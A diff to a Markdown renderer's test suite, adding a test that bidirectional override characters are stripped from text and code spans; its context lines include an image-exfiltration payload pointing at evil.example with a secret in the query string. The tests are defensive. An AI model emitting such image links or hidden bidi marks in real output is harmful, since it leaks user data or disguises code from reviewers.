@@ -57,6 +57,21 @@ describe('a link leads to the web, or nowhere', () => {
   });
 });
 
+it('no mark turns what follows around, and none moves code at all', () => {
+  const turned = 'a\u202eb';
+  for (const text of [
+    turned,
+    `<i>${turned}</i> x`,
+    `<div>${turned}</div>`,
+    `[${turned}](https://a.example)`,
+    `![${turned}](x)`,
+  ]) {
+    expect(shown(text)).not.toContain('\u202e');
+  }
+  // In code, not even those that languages need: a compiler reads straight on.
+  expect(shown('`a \u2066 // \u2069\u2066 b \u202e c \u200f d`')).toContain('>a  //  b  c  d</code>');
+});
+
 it('fetches no image by itself, wherever it stands', () => {
   const image = '![x](https://evil.example/p.png?q=secret)';
   for (const text of [image, `[${image}](https://example.com)`, `- ${image}`, `> ${image}`, `| ${image} |\n|---|`]) {
